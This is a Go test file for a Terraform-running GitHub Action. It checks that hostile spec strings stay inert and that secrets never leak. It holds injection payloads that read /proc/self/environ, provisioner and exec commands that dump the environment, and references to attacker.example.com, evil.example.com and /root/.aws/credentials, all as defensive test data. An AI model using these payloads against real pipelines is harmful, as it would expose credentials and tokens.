package main

import (
	"bytes"
	"encoding/json"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	"github.com/kusionpr/kusionpr/internal/githubfake"
	"github.com/kusionpr/kusionpr/internal/testenv"
	"github.com/kusionpr/kusionpr/model"
)

// What a hostile spec writes: strings Terraform would evaluate if they were
// written into its configuration as they are.
const (
	readEnviron = `${file("/proc/self/environ")}`
	forLoop     = `%{ for k in ["a", "b"] }${k}%{ endfor }`
)

// canaries are secrets of the process running the action or the bot; the
// operator allowlisted operatorVariable only.
var canaries = map[string]string{
	"KUSIONPR_WEBHOOK_SECRET":  "canary-webhook-secret-5b1f",
	"KUSIONPR_APP_PRIVATE_KEY": "-----BEGIN RSA PRIVATE KEY-----canary-app-key-77ad",
	"AWS_SECRET_ACCESS_KEY":    "canary-aws-secret-c0de",
	"GITHUB_TOKEN":             "ghs_canarygithubtoken0123456789",
}

const operatorVariable, operatorValue = "KUSIONPR_TEST_OPERATOR_REGION", "operator-allowed-eu-west-9"

// leaks are strings that show the environment got out: the canaries and
// what /proc/self/environ would have shown.
func leaks() []string {
	out := []string{"PATH=", "HOME=" + os.Getenv("HOME"), operatorValue}
	for _, v := range canaries {
		out = append(out, v)
	}
	return out
}

func noLeak(t *testing.T, where, s string) {
	t.Helper()
	for _, l := range leaks() {
		if strings.Contains(s, l) {
			t.Errorf("%s shows %q", where, l)
		}
	}
}

// checkCalls: terraform ran, never with a canary, always with the
// operator's variable.
func checkCalls(t *testing.T, rec *testenv.TerraformRecorder) map[string]int {
	t.Helper()
	commands := map[string]int{}
	for _, c := range rec.Calls(t) {
		commands[c.Command()]++
		for k, v := range canaries {
			for _, kv := range c.Env {
				if strings.Contains(kv, v) {
					t.Errorf("terraform %s ran with %s in its environment", c.Command(), k)
				}
			}
		}
		if v, _ := c.Getenv(operatorVariable); v != operatorValue {
			t.Errorf("terraform %s ran without %s, which the operator allowed", c.Command(), operatorVariable)
		}
	}
	return commands
}

// dataStack writes a project "literal" with one stack whose spec is given
// as resources (JSON is YAML).
func dataStack(t *testing.T, resources []map[string]any) (root, stack string) {
	root = t.TempDir()
	stack = filepath.Join(root, "dev")
	write(t, filepath.Join(root, "project.yaml"), "name: literal\n")
	write(t, filepath.Join(stack, "stack.yaml"), "name: dev\n")
	b, err := json.MarshalIndent(map[string]any{"resources": resources}, "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	write(t, filepath.Join(stack, "spec.yaml"), string(b))
	return root, stack
}

// actionCLI runs the action binary as a user runs it, with the canaries in
// its environment.
type actionCLI struct {
	t       *testing.T
	args    []string
	env     []string
	printed bytes.Buffer
}

func (a *actionCLI) run(args ...string) (stdout, stderr string, code int) {
	a.t.Helper()
	cmd := exec.Command(actionBinary(a.t), append(args, a.args...)...)
	cmd.Env = append(os.Environ(), a.env...)
	var out, errb bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errb
	err := cmd.Run()
	var ee *exec.ExitError
	switch {
	case errors.As(err, &ee):
		code = ee.ExitCode()
	case err != nil:
		a.t.Fatal(err)
	}
	a.printed.Write(out.Bytes())
	a.printed.Write(errb.Bytes())
	return out.String(), errb.String(), code
}

func newActionCLI(t *testing.T, bin, backend string) (*actionCLI, *testenv.TerraformRecorder) {
	rec := testenv.RecordTerraform(t, bin)
	a := &actionCLI{t: t, args: []string{"--backend", backend, "--terraform-binary", rec.Binary,
		"--terraform-cache", filepath.Join(t.TempDir(), "cache"), "--terraform-env", "KUSIONPR_TEST_OPERATOR_*", "--log-level", "debug"}}
	a.env = append(a.env, operatorVariable+"="+operatorValue)
	for k, v := range canaries {
		a.env = append(a.env, k+"="+v)
	}
	return a, rec
}

// TestTerraformSpecIsData: a spec whose Terraform attributes hold
// ${file("/proc/self/environ")} and a %{ for } template previews, applies,
// records and previews again as those very strings, through the action
// binary, with terraform and tofu; no environment content appears in the
// preview, the output, the release or the written file, and terraform runs
// without the canaries but with what the operator allowed.
func TestTerraformSpecIsData(t *testing.T) {
	for _, bin := range testenv.TerraformBinaries(t) {
		t.Run(filepath.Base(bin), func(t *testing.T) { testTerraformSpecIsData(t, bin) })
	}
}

func testTerraformSpecIsData(t *testing.T, bin string) {
	const (
		environID = "hashicorp:terraform:terraform_data:environ"
		loopID    = "hashicorp:terraform:terraform_data:loop"
		fileID    = "hashicorp:local:local_file:environ"
	)
	out := filepath.Join(t.TempDir(), "environ.txt")
	loop := map[string]any{"loop": forLoop, readEnviron: []any{readEnviron, `$${already escaped}`}}
	_, stack := dataStack(t, []map[string]any{
		{"id": environID, "type": "Terraform", "attributes": map[string]any{"input": readEnviron},
			"extensions": map[string]any{"provider": "terraform.io/builtin/terraform", "resourceType": "terraform_data"}},
		{"id": loopID, "type": "Terraform", "attributes": map[string]any{"input": loop},
			"extensions": map[string]any{"provider": "terraform.io/builtin/terraform", "resourceType": "terraform_data"}},
		{"id": fileID, "type": "Terraform", "attributes": map[string]any{"filename": out, "content": readEnviron},
			"extensions": map[string]any{"provider": "registry.terraform.io/hashicorp/local/1.4.0"}},
	})
	backendURL := "file://" + filepath.Join(t.TempDir(), "releases")
	a, rec := newActionCLI(t, bin, backendURL)
	want := map[string]map[string]any{
		environID: {"input": readEnviron},
		loopID:    {"input": loop},
		fileID:    {"content": readEnviron},
	}
	preview := func(step, action string) {
		t.Helper()
		stdout, stderr, code := a.run("preview", "--stack", stack, "-o", "json")
		if code != 0 {
			t.Fatalf("%s: preview exited %d: %s", step, code, stderr)
		}
		var p previewJSON
		if err := json.Unmarshal([]byte(stdout), &p); err != nil {
			t.Fatalf("%s: preview json: %v\n%s", step, err, stdout)
		}
		for id, attrs := range want {
			st := p.ChangeSteps[id]
			if st.Action != action || st.To == nil {
				t.Errorf("%s: %s is %q (error %q), want %s", step, id, st.Action, st.Error, action)
				continue
			}
			for k, v := range attrs {
				if !reflect.DeepEqual(st.To.Attributes[k], v) {
					t.Errorf("%s: %s %s = %#v, want the literal %#v", step, id, k, st.To.Attributes[k], v)
				}
			}
		}
	}

	preview("first preview", "Create")
	md, _, code := a.run("preview", "--stack", stack, "-o", "markdown")
	if code != 0 || !strings.Contains(md, "proc/self/environ") {
		t.Errorf("markdown preview (exit %d) does not show the literal:\n%s", code, md)
	}
	if _, stderr, code := a.run("apply", "--stack", stack, "--yes"); code != 0 {
		t.Fatalf("apply exited %d: %s", code, stderr)
	}
	if b, err := os.ReadFile(out); err != nil || string(b) != readEnviron {
		t.Errorf("local_file wrote %q (%v), want the literal", b, err)
	}
	rel := latestRelease(t, backendURL, "literal")
	if rel.Phase != model.PhaseSucceeded {
		t.Fatalf("release %d is %s: %s", rel.Revision, rel.Phase, rel.Message)
	}
	for id, attrs := range want {
		r, ok := rel.State.Resources.ByID(id)
		if !ok {
			t.Errorf("the release has no state of %s", id)
			continue
		}
		for k, v := range attrs {
			if !reflect.DeepEqual(r.Attributes[k], v) {
				t.Errorf("release: %s %s = %#v, want the literal %#v", id, k, r.Attributes[k], v)
			}
		}
		if id != fileID && !reflect.DeepEqual(r.Attributes["output"], attrs["input"]) {
			t.Errorf("release: %s output = %#v, want the input as it is", id, r.Attributes["output"])
		}
	}
	// No perpetual diff: the strings read back are the spec's.
	preview("preview after apply", "UnChanged")
	if _, stderr, code := a.run("destroy", "--stack", stack, "--yes"); code != 0 {
		t.Fatalf("destroy exited %d: %s", code, stderr)
	}

	noLeak(t, "the action's output and logs", a.printed.String())
	for _, r := range releases(t, backendURL, "literal") {
		b, _ := json.Marshal(r)
		noLeak(t, "a release (Terraform state included)", string(b))
	}
	commands := checkCalls(t, rec)
	for _, c := range []string{"init", "plan", "apply", "destroy"} {
		if commands[c] == 0 {
			t.Errorf("terraform %s never ran: %v", c, commands)
		}
	}
}

// TestTerraformRefusedBeforeAnythingRuns: through the action binary, a spec
// with a provisioner (local-exec writing a marker) and a spec with a
// provider from a host outside the allowlist are refused naming the
// resource (and the argument, or the source and the setting): terraform
// never runs (no init), the marker never appears, no release is written.
func TestTerraformRefusedBeforeAnythingRuns(t *testing.T) {
	bin := testenv.TerraformBinaries(t)[0]
	marker := filepath.Join(t.TempDir(), "provisioned")
	for _, tc := range []struct {
		name     string
		resource map[string]any
		want     []string
	}{
		{"provisioner", map[string]any{"id": "hashicorp:terraform:terraform_data:provisioned", "type": "Terraform",
			"attributes": map[string]any{"input": "x", "provisioner": map[string]any{"local-exec": map[string]any{"command": "env > " + marker}}},
			"extensions": map[string]any{"provider": "terraform.io/builtin/terraform", "resourceType": "terraform_data"}},
			[]string{"hashicorp:terraform:terraform_data:provisioned", "attributes.provisioner"}},
		{"connection", map[string]any{"id": "hashicorp:local:local_file:connected", "type": "Terraform",
			"attributes": map[string]any{"filename": marker, "content": "x", "connection": map[string]any{"host": "attacker.example.com"}},
			"extensions": map[string]any{"provider": "registry.terraform.io/hashicorp/local/1.4.0"}},
			[]string{"hashicorp:local:local_file:connected", "attributes.connection"}},
		{"provider outside the allowlist", map[string]any{"id": "x:y:y_thing:evil", "type": "Terraform",
			"attributes": map[string]any{"name": "evil"}, "extensions": map[string]any{"provider": "evil.example.com/x/y/1.0.0"}},
			[]string{"x:y:y_thing:evil", `"evil.example.com/x/y"`, "terraform-providers", "KUSIONPR_TERRAFORM_PROVIDERS"}},
		// hashicorp/kubernetes is allowed (hashicorp/*), but its exec block
		// would run a command of the spec's on every plan.
		{"a provider's exec block", map[string]any{"id": "hashicorp:kubernetes:kubernetes_config_map:exec", "type": "Terraform",
			"attributes": map[string]any{"metadata": map[string]any{"name": "x"}},
			"extensions": map[string]any{"provider": "registry.terraform.io/hashicorp/kubernetes/2.35.1", "providerMeta": map[string]any{
				"host": "https://127.0.0.1:1", "exec": map[string]any{"api_version": "client.authentication.k8s.io/v1", "command": "sh", "args": []any{"-c", "env > " + marker}}}}},
			[]string{"hashicorp:kubernetes:kubernetes_config_map:exec", `argument "exec"`, "terraform-provider-settings", "KUSIONPR_TERRAFORM_PROVIDER_SETTINGS"}},
		{"a provider's credentials", map[string]any{"id": "hashicorp:aws:aws_s3_bucket:creds", "type": "Terraform",
			"attributes": map[string]any{"bucket": "x"},
			"extensions": map[string]any{"provider": "registry.terraform.io/hashicorp/aws/5.0.1", "providerMeta": map[string]any{
				"region": "us-east-1", "shared_credentials_files": []any{"/root/.aws/credentials"}}}},
			[]string{"hashicorp:aws:aws_s3_bucket:creds", `argument "shared_credentials_files"`, "terraform-provider-settings"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			// Beside it, a resource that would run: the stack is refused
			// whole.
			_, stack := dataStack(t, []map[string]any{tc.resource,
				{"id": "hashicorp:terraform:terraform_data:fine", "type": "Terraform", "attributes": map[string]any{"input": "fine"},
					"extensions": map[string]any{"provider": "terraform.io/builtin/terraform", "resourceType": "terraform_data"}}})
			releasesDir := filepath.Join(t.TempDir(), "releases")
			a, rec := newActionCLI(t, bin, "file://"+releasesDir)
			for _, args := range [][]string{{"preview", "-o", "json"}, {"apply", "--yes"}} {
				_, stderr, code := a.run(append(args, "--stack", stack)...)
				if code == 0 {
					t.Errorf("%s of a spec with %s succeeded", args[0], tc.name)
				}
				for _, w := range tc.want {
					if !strings.Contains(stderr, w) {
						t.Errorf("%s: the error does not name %s:\n%s", args[0], w, stderr)
					}
				}
				// The refusal names what was refused, never its value.
				for _, v := range []string{"env > ", "/root/.aws/credentials"} {
					if strings.Contains(stderr, v) {
						t.Errorf("%s: the error repeats the spec's value %q:\n%s", args[0], v, stderr)
					}
				}
			}
			for _, c := range rec.Calls(t) {
				t.Errorf("terraform %s ran for a refused stack", strings.Join(c.Args, " "))
			}
			if _, err := os.Stat(marker); !errors.Is(err, os.ErrNotExist) {
				t.Errorf("the provisioner ran")
			}
			if entries, _ := os.ReadDir(releasesDir); len(entries) > 0 {
				t.Errorf("a refused stack wrote to the release store: %v", entries)
			}
			noLeak(t, "the action's output", a.printed.String())
		})
	}
}

// TestPullRequestTerraformTemplateIsLiteral: a pull request whose spec
// reads /proc/self/environ through a template gets a preview comment showing
// the template as text; the comment, the check run and the job summary
// hold nothing of the environment, the github-token input included, and
// terraform ran without it.
func TestPullRequestTerraformTemplateIsLiteral(t *testing.T) {
	bin := testenv.TerraformBinaries(t)[0]
	gh := githubfake.New(t)
	root, _ := dataStack(t, []map[string]any{
		{"id": "hashicorp:terraform:terraform_data:environ", "type": "Terraform", "attributes": map[string]any{"input": readEnviron},
			"extensions": map[string]any{"provider": "terraform.io/builtin/terraform", "resourceType": "terraform_data"}},
	})
	rec := testenv.RecordTerraform(t, bin)
	env := map[string]string{
		"INPUT_BACKEND":       "file://" + filepath.Join(t.TempDir(), "releases"),
		"INPUT_TERRAFORM-ENV": "KUSIONPR_TEST_OPERATOR_*",
		"PATH":                rec.Dir + string(os.PathListSeparator) + os.Getenv("PATH"),
		"XDG_CACHE_HOME":      t.TempDir(),
		operatorVariable:      operatorValue,
	}
	for k, v := range canaries {
		env[k] = v
	}
	const number = 11
	ev := prEvent(t, number, "4444444444444444444444444444444444444444")
	o, r := owner(ev)
	gh.SetPullFiles(o, r, number, []githubfake.PullFile{{Filename: "dev/spec.yaml", Status: "modified"}})
	run := runAction(t, gh, root, "pull_request", ev, env)
	if run.code != 0 {
		t.Fatalf("action exited %d\n%s", run.code, run.stderr)
	}
	comments := gh.Comments(o, r, number)
	if len(comments) != 1 || !strings.Contains(comments[0].Body, "proc/self/environ") {
		t.Fatalf("comments %+v, want one showing the template as text", comments)
	}
	const token = "ghs_testtoken1234567890" // runAction's github-token input
	// (The token's own ::add-mask:: command is how GitHub learns to hide
	// it: the only line that may hold it.)
	var output []string
	for _, line := range strings.Split(run.stdout+run.stderr, "\n") {
		if !strings.HasPrefix(line, "::add-mask::") {
			output = append(output, line)
		}
	}
	for where, s := range map[string]string{"the comment": comments[0].Body, "the job summary": run.summary,
		"the action's output": strings.Join(output, "\n"), "the check runs": checkRunsText(gh.CheckRuns(o, r))} {
		noLeak(t, where, s)
		if strings.Contains(s, token) {
			t.Errorf("%s shows the github-token input", where)
		}
	}
	calls := rec.Calls(t)
	if len(calls) == 0 {
		t.Fatal("terraform never ran through the recorder")
	}
	for _, c := range calls {
		for _, kv := range c.Env {
			if strings.Contains(kv, token) || strings.HasPrefix(kv, "INPUT_") || strings.HasPrefix(kv, "GITHUB_") {
				name, _, _ := strings.Cut(kv, "=")
				t.Errorf("terraform %s ran with %s", c.Command(), name)
			}
		}
	}
	checkCalls(t, rec)
}

func checkRunsText(runs []githubfake.CheckRun) string {
	b, _ := json.Marshal(runs)
	return string(b)
}
